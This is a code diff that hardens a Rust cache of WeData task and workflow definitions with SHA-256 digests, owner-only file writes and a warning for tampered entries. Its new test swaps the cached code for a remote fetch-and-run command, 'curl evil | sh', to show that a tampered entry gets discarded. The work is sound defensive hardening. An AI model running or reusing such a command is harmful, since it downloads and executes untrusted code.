@@ -3,8 +3,15 @@
 //! (both returned by ListTriggerTasks and ListTasks) are what they were when it was stored; every save in
 //! WeData bumps the version, so a stale entry is never served.
 //!
-//! It lives under the project (`.wedata/cache/`, ignored by git), one file per endpoint and
-//! project. A corrupt file is discarded with a warning; `--refresh=full` bypasses it.
+//! It lives under the project (`.wedata/cache/`, private to its owner and ignored by git), one
+//! file per endpoint and project. A corrupt file is discarded with a warning; `--refresh=full`
+//! bypasses it.
+//!
+//! The cache is a hint, never a source of writes: each entry carries a digest of its content,
+//! checked when it is served (an entry edited by hand, or damaged, is discarded and counted),
+//! and whatever `apply` is about to write over is read fresh from WeData first
+//! (`planner::approve`). A digest is not a signature: someone who can write the cache can
+//! write a matching digest; what stops them is the fresh read.
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
@@ -15,7 +22,7 @@ use sha2::{Digest, Sha256};
 use super::{LiveDefinition, LiveWorkflowDetail};
 
 /// Bumped whenever the stored shapes change; an older file is simply started afresh.
-const CACHE_VERSION: u32 = 2;
+const CACHE_VERSION: u32 = 3;
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 struct CachedTask {
@@ -23,12 +30,32 @@ struct CachedTask {
     latest_version: String,
     task: LiveDefinition,
     code: String,
+    /// SHA-256 of the members above (see [`task_digest`]).
+    digest: String,
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 struct CachedWorkflow {
     modify_time: String,
     detail: LiveWorkflowDetail,
+    /// SHA-256 of the members above (see [`workflow_digest`]).
+    digest: String,
+}
+
+fn task_digest(
+    last_update_time: &str,
+    latest_version: &str,
+    task: &LiveDefinition,
+    code: &str,
+) -> String {
+    let bytes = serde_json::to_vec(&(last_update_time, latest_version, task, code))
+        .expect("API types serialize");
+    hex::encode(Sha256::digest(bytes))
+}
+
+fn workflow_digest(modify_time: &str, detail: &LiveWorkflowDetail) -> String {
+    let bytes = serde_json::to_vec(&(modify_time, detail)).expect("API types serialize");
+    hex::encode(Sha256::digest(bytes))
 }
 
 #[derive(Debug, Default, Serialize, Deserialize)]
@@ -44,6 +71,8 @@ pub struct DefinitionCache {
     path: PathBuf,
     file: CacheFile,
     changed: bool,
+    /// Entries dropped because their content no longer matched their digest.
+    discarded: usize,
 }
 
 impl DefinitionCache {
@@ -52,7 +81,7 @@ impl DefinitionCache {
         let key = hex::encode(Sha256::digest(
             format!("{endpoint}\n{project_id}").as_bytes(),
         ));
-        root.join(".wedata")
+        crate::local_folder::path(root)
             .join("cache")
             .join(format!("{}.json", &key[..16]))
     }
@@ -67,6 +96,7 @@ impl DefinitionCache {
                 ..CacheFile::default()
             },
             changed: false,
+            discarded: 0,
         };
         let Ok(text) = std::fs::read_to_string(&path) else {
             return (empty(path), None);
@@ -77,6 +107,7 @@ impl DefinitionCache {
                     path,
                     file,
                     changed: false,
+                    discarded: 0,
                 },
                 None,
             ),
@@ -98,13 +129,64 @@ impl DefinitionCache {
         self.file.workflows.clear();
     }
 
-    /// A workflow's detail, while its ModifyTime (from ListTriggerWorkflows) is unchanged.
-    pub fn get_workflow(&self, workflow_id: &str, modify_time: &str) -> Option<LiveWorkflowDetail> {
-        self.file
+    /// How many entries were discarded so far because they did not match their digest.
+    pub fn discarded(&self) -> usize {
+        self.discarded
+    }
+
+    /// The warning to print when entries were discarded, if any.
+    pub fn discarded_warning(&self) -> Option<String> {
+        (self.discarded > 0).then(|| {
+            format!(
+                "warning: {} {} of the plan cache {} did not match {} digest and {} discarded; \
+                 {} read from WeData instead",
+                self.discarded,
+                if self.discarded == 1 {
+                    "entry"
+                } else {
+                    "entries"
+                },
+                self.path.display(),
+                if self.discarded == 1 { "its" } else { "their" },
+                if self.discarded == 1 { "was" } else { "were" },
+                if self.discarded == 1 {
+                    "it was"
+                } else {
+                    "they were"
+                },
+            )
+        })
+    }
+
+    /// A workflow's detail, while its ModifyTime (from ListTriggerWorkflows) is unchanged and
+    /// the entry matches its digest.
+    pub fn get_workflow(
+        &mut self,
+        workflow_id: &str,
+        modify_time: &str,
+    ) -> Option<LiveWorkflowDetail> {
+        let entry = self
+            .file
             .workflows
             .get(workflow_id)
-            .filter(|entry| !modify_time.is_empty() && entry.modify_time == modify_time)
-            .map(|entry| entry.detail.clone())
+            .filter(|entry| !modify_time.is_empty() && entry.modify_time == modify_time)?;
+        if workflow_digest(&entry.modify_time, &entry.detail) != entry.digest {
+            self.file.workflows.remove(workflow_id);
+            self.discarded += 1;
+            self.changed = true;
+            return None;
+        }
+        Some(entry.detail.clone())
+    }
+
+    /// Drops one task's entry (apply found it differs from WeData).
+    pub fn forget(&mut self, task_id: &str) {
+        self.changed |= self.file.tasks.remove(task_id).is_some();
+    }
+
+    /// Drops one workflow's entry.
+    pub fn forget_workflow(&mut self, workflow_id: &str) {
+        self.changed |= self.file.workflows.remove(workflow_id).is_some();
     }
 
     pub fn put_workflow(
@@ -118,24 +200,36 @@ impl DefinitionCache {
             CachedWorkflow {
                 modify_time: modify_time.to_owned(),
                 detail: detail.clone(),
+                digest: workflow_digest(modify_time, detail),
             },
         );
         self.changed = true;
     }
 
+    /// A task's definition and code, while its LastUpdateTime and latest version are the
+    /// listed ones and the entry matches its digest.
     pub fn get(
-        &self,
+        &mut self,
         task_id: &str,
         last_update_time: &str,
         latest_version: &str,
     ) -> Option<(LiveDefinition, String)> {
-        self.file
-            .tasks
-            .get(task_id)
-            .filter(|entry| {
-                entry.last_update_time == last_update_time && entry.latest_version == latest_version
-            })
-            .map(|entry| (entry.task.clone(), entry.code.clone()))
+        let entry = self.file.tasks.get(task_id).filter(|entry| {
+            entry.last_update_time == last_update_time && entry.latest_version == latest_version
+        })?;
+        let digest = task_digest(
+            &entry.last_update_time,
+            &entry.latest_version,
+            &entry.task,
+            &entry.code,
+        );
+        if digest != entry.digest {
+            self.file.tasks.remove(task_id);
+            self.discarded += 1;
+            self.changed = true;
+            return None;
+        }
+        Some((entry.task.clone(), entry.code.clone()))
     }
 
     pub fn put(
@@ -153,12 +247,14 @@ impl DefinitionCache {
                 latest_version: latest_version.to_owned(),
                 task: task.clone(),
                 code: code.to_owned(),
+                digest: task_digest(last_update_time, latest_version, task, code),
             },
         );
         self.changed = true;
     }
 
-    /// Writes the cache atomically when it changed. Failing to write only costs speed.
+    /// Writes the cache atomically (owner-only) when it changed. Failing to write only costs
+    /// speed.
     pub fn save(&self) {
         if !self.changed {
             return;
@@ -166,18 +262,13 @@ impl DefinitionCache {
         let Some(parent) = self.path.parent() else {
             return;
         };
-        if std::fs::create_dir_all(parent).is_err() {
+        if crate::local_folder::create_private_directory(parent).is_err() {
             return;
         }
-        let temporary = self
-            .path
-            .with_extension(format!("tmp-{}", std::process::id()));
         let Ok(bytes) = serde_json::to_vec(&self.file) else {
             return;
         };
-        if std::fs::write(&temporary, bytes).is_ok() {
-            let _ = std::fs::rename(&temporary, &self.path);
-        }
+        let _ = crate::local_folder::write_private_file(&self.path, &bytes);
     }
 }
 
@@ -200,7 +291,7 @@ mod tests {
             "echo 1",
         );
         cache.save();
-        let (cache, _) = DefinitionCache::load(path);
+        let (mut cache, _) = DefinitionCache::load(path);
         assert_eq!(
             cache.get("1", "t1", "V1").map(|(_, code)| code).as_deref(),
             Some("echo 1")
@@ -215,9 +306,40 @@ mod tests {
         let directory = tempfile::tempdir().unwrap();
         let path = directory.path().join("cache.json");
         std::fs::write(&path, "{not json").unwrap();
-        let (cache, warning) = DefinitionCache::load(path);
+        let (mut cache, warning) = DefinitionCache::load(path);
         assert!(warning.unwrap().contains("discarding"));
         assert!(cache.get("1", "t", "V1").is_none());
+    }
+
+    /// A hand-edited entry (here: an ext key added to the definition, as an attacker with
+    /// write access to a restored CI cache would) is not served, and is counted.
+    #[test]
+    fn an_entry_edited_by_hand_is_discarded_with_a_warning() {
+        let directory = tempfile::tempdir().unwrap();
+        let path = directory.path().join("cache.json");
+        let (mut cache, _) = DefinitionCache::load(path.clone());
+        cache.put(
+            "1",
+            "t1",
+            "V1",
+            &LiveDefinition::Trigger(TriggerTask::default()),
+            "echo 1",
+        );
+        cache.save();
+        let text = std::fs::read_to_string(&path).unwrap();
+        let edited = text.replace("echo 1", "curl evil | sh");
+        assert_ne!(text, edited);
+        std::fs::write(&path, edited).unwrap();
+        let (mut cache, warning) = DefinitionCache::load(path);
+        assert!(warning.is_none());
+        assert!(cache.get("1", "t1", "V1").is_none());
+        assert_eq!(cache.discarded(), 1);
+        assert!(
+            cache
+                .discarded_warning()
+                .unwrap()
+                .contains("did not match its digest")
+        );
     }
 
     #[test]
